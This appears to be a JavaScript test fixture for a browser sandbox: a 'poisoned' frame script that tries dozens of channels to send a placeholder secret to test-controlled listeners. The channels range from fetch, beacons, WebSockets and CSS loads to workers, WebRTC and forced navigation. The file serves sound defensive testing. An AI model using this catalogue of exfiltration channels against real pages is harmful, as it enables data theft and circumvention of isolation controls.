// A poisoned script inside the frame: every way that we know to tell something to somebody outside.
// The tests put three constants before it: HTTP (the start of an address that listens), UDP and TCP (places that listen), WHICH.

const SECRET = "secret";
const asIs = { createHTML: (text) => text, createScript: (text) => text, createScriptURL: (text) => text };
const trusted = window.trustedTypes ? trustedTypes.createPolicy("rempart", asIs) : asIs;

function put(html) {
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = trusted.createHTML(html);
  return place;
}
function element(tag, properties) {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(properties)) made.setAttribute(name, value);
  document.head.append(made);
  return made;
}
const link = (rel, more = {}) => (to) => element("link", { rel, href: to, ...more });
const style = (css) => (to) => {
  const made = document.createElement("style");
  made.textContent = css(to);
  document.head.append(made);
  put('<p class="hostile" style="font-family: hostile">words</p>');
};
const inWorker = (body) => (to) => {
  const code = `const to = ${JSON.stringify(to)}; ${body}`;
  return new Worker(trusted.createScriptURL(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))));
};
const script = (text, type) => {
  const made = document.createElement("script");
  if (type) made.type = type;
  made.text = trusted.createScript(text);
  document.head.append(made);
};
const inEmptyFrame = (act) => (to) => {
  const made = document.createElement("iframe");
  document.body.append(made);
  act(made.contentWindow, to);
};
const click = (html) => (to) => put(html.replaceAll("TO", to)).firstElementChild.click();

// Those that leave the frame where it is: all are tried in one page.
const WAYS = {
  "fetch": (to) => fetch(to),
  "fetch-no-cors": (to) => fetch(to, { mode: "no-cors", method: "POST", body: SECRET }),
  "fetch-keepalive": (to) => fetch(to, { mode: "no-cors", keepalive: true }),
  "fetch-later": (to) => fetchLater(to, { activateAfter: 0 }),
  "xhr": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  "beacon": (to) => navigator.sendBeacon(to, SECRET),
  "websocket": (to) => new WebSocket(to.replace("http", "ws")),
  "websocket-stream": (to) => new WebSocketStream(to.replace("http", "ws")),
  "event-source": (to) => new EventSource(to),
  "image": (to) => {
    new Image().src = to;
  },
  "image-set": (to) => put(`<img srcset="${to} 1x" alt="">`),
  "picture": (to) => put(`<picture><source srcset="${to}"><img alt=""></picture>`),
  "image-input": (to) => put(`<input type="image" src="${to}" alt="">`),
  "svg-image": (to) => put(`<svg><image href="${to}"/></svg>`),
  "svg-use": (to, near) => put(`<svg><use href="${near}#a"/></svg>`),
  "background": (to) => put(`<table background="${to}"><tr><td>words</td></tr></table>`),
  "style-import": style((to) => `@import url("${to}");`),
  "style-background": style((to) => `.hostile { background: url("${to}"); }`),
  "style-cursor": style((to) => `.hostile { list-style: url("${to}"); display: list-item; }`),
  "style-font": style((to) => `@font-face { font-family: hostile; src: url("${to}"); }`),
  "style-sheet-rule": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${to}"); }`);
    document.adoptedStyleSheets = [sheet];
  },
  "style-property": (to) => {
    document.body.style.borderImage = `url("${to}") 1`;
    document.body.style.borderStyle = "solid";
  },
  "font-face": (to) => new FontFace("other", `url("${to}")`).load(),
  "link-stylesheet": link("stylesheet"),
  "link-prefetch": link("prefetch"),
  "link-preload": link("preload", { as: "image" }),
  "link-preload-script": link("preload", { as: "script" }),
  "link-modulepreload": link("modulepreload"),
  "link-icon": link("icon"),
  "link-manifest": link("manifest", { crossorigin: "use-credentials" }),
  "link-prerender": link("prerender"),
  "link-dictionary": link("compression-dictionary"),
  "preconnect": () => link("preconnect")(`http://${TCP}`),
  "dns-prefetch": () => link("dns-prefetch")("http://named-by-the-frame.invalid"),
  "script": (to) => {
    const made = document.createElement("script");
    made.src = trusted.createScriptURL(to);
    document.head.append(made);
  },
  "script-module": (to) => script(`import ${JSON.stringify(to)};`, "module"),
  "script-inline": (to) => script(`fetch(${JSON.stringify(to)})`),
  "import": (to) => import(to),
  "import-map": (to) => script(JSON.stringify({ imports: { any: to } }), "importmap"),
  "eval": (to) => Function(`fetch(${JSON.stringify(to)})`)(),
  "speculation-rules": (to) => script(JSON.stringify({ prefetch: [{ source: "list", urls: [to] }] }), "speculationrules"),
  "speculation-prerender": (to) => script(JSON.stringify({ prerender: [{ source: "list", urls: [to] }] }), "speculationrules"),
  "worker": (to, near) => new Worker(trusted.createScriptURL(near)),
  "shared-worker": (to, near) => new SharedWorker(trusted.createScriptURL(near)),
  "service-worker": (to, near) => navigator.serviceWorker.register(trusted.createScriptURL(near)),
  "worker-fetch": inWorker("fetch(to)"),
  "worker-import-scripts": inWorker("importScripts(to)"),
  "worker-import": inWorker("import(to)"),
  "worker-xhr": inWorker("const r = new XMLHttpRequest(); r.open('GET', to); r.send()"),
  "worker-websocket": inWorker("new WebSocket(to.replace('http', 'ws'))"),
  "worker-event-source": inWorker("new EventSource(to)"),
  "worker-font": inWorker("new FontFace('any', `url(${to})`).load()"),
  "worker-worker": inWorker("new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))"),
  "paint-worklet": (to) => CSS.paintWorklet.addModule(to),
  "audio-worklet": (to) => new AudioContext().audioWorklet.addModule(to),
  "frame": (to) => put(`<iframe src="${to}"></iframe>`),
  "frame-srcdoc": (to) => put(`<iframe srcdoc="<img src='${to}'>"></iframe>`),
  "frame-data": (to) => put(`<iframe src="data:text/html,<img src='${to}'>"></iframe>`),
  "frame-script": (to) => put(`<iframe src="javascript:fetch('${to}')"></iframe>`),
  "frame-empty": inEmptyFrame((inner, to) => inner.fetch(to)),
  "frame-empty-image": inEmptyFrame((inner, to) => {
    inner.document.body.innerHTML = trusted.createHTML(`<img src="${to}">`);
  }),
  "fenced-frame": (to) => {
    element("fencedframe", {}).config = new FencedFrameConfig(to);
  },
  "object": (to) => put(`<object data="${to}"></object>`),
  "embed": (to) => put(`<embed src="${to}">`),
  "video": (to) => put(`<video src="${to}" preload="auto"></video>`),
  "video-poster": (to) => put(`<video poster="${to}"></video>`),
  "audio": (to) => put(`<audio src="${to}" preload="auto"></audio>`),
  "track": (to) => {
    const made = put(`<video crossorigin="anonymous" src="data:video/mp4,x"><track default kind="captions" src="${to}"></video>`).firstChild;
    made.textTracks[0].mode = "showing";
  },
  "anchor-ping": click('<a href="#" ping="TO">words</a>'),
  "media-session": (to) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: SECRET, artwork: [{ src: to, sizes: "96x96" }] });
  },
  "payment": (to) => new PaymentRequest([{ supportedMethods: to }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "report": (to) => element("meta", { "http-equiv": "Content-Security-Policy", content: `manifest-src 'none'; report-uri ${to}` }),
  "dns-prefetch-allowed": () => element("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }),
  "web-transport": () => new WebTransport(`https://${UDP}/`, { serverCertificateHashes: [{ algorithm: "sha-256", value: new Uint8Array(32) }] }),
  "broadcast": () => new BroadcastChannel("any").postMessage(SECRET),
};

// One page for each: those that open another one; calls, which take their time; those that lead the frame, or the page, elsewhere.
const ALONE = {
  "open": (to) => open(to),
  "open-no-opener": (to) => open(to, "_blank", "noopener"),
  "anchor-new-window": click('<a href="TO" target="_blank">words</a>'),
  "anchor-download": click('<a href="TO" download>words</a>'),
  "form-new-window": (to) => put(`<form action="${to}" method="post" target="_blank"><input name="a"></form>`).firstChild.submit(),
  "call": () => call(window.RTCPeerConnection),
  "call-other-name": () => call(window.webkitRTCPeerConnection),
  "frame-empty-call": inEmptyFrame((inner) => call(inner.RTCPeerConnection)),
  "location": (to) => {
    location = to;
  },
  "location-replace": (to) => location.replace(to),
  "location-page": () => {
    location = `${PAGE}?${SECRET}`;
  },
  "open-self": (to) => open(to, "_self"),
  "meta-refresh": (to) => element("meta", { "http-equiv": "refresh", content: `0;url=${to}` }),
  "anchor": click('<a href="TO">words</a>'),
  "anchor-top": click('<a href="TO" target="_top">words</a>'),
  "form": (to) => put(`<form action="${to}"><input name="a"></form>`).firstChild.submit(),
  "form-post": (to) => put(`<form action="${to}" method="post"><input name="a"></form>`).firstChild.submit(),
  "form-top": (to) => put(`<form action="${to}" target="_top"><input name="a"></form>`).firstChild.submit(),
  "top": (to) => {
    top.location = to;
  },
  "parent": (to) => parent.location.replace(to),
  "navigation": (to) => navigation.navigate(to),
  "svg-anchor": (to) => put(`<svg><a href="${to}"><text>words</text></a></svg>`).querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true })),
  "document-open": (to) => {
    document.open();
    document.write(trusted.createHTML(`<img src="${to}">`));
    document.close();
  },
};

function call(Connection) {
  const made = new Connection({ iceServers: [{ urls: `stun:${UDP}` }] });
  made.createDataChannel("any");
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}

async function attempt(ways, name) {
  try {
    await ways[name](`${HTTP}${name}`, `${PAGE}leak/${name}`);
  } catch (refused) {
    console.debug(name, String(refused));
    // Refused: as it should be.
  }
}

addEventListener("load", () => {
  if (WHICH === "all") for (const name of Object.keys(WAYS)) attempt(WAYS, name);
  else attempt(WHICH in ALONE ? ALONE : WAYS, WHICH);
});
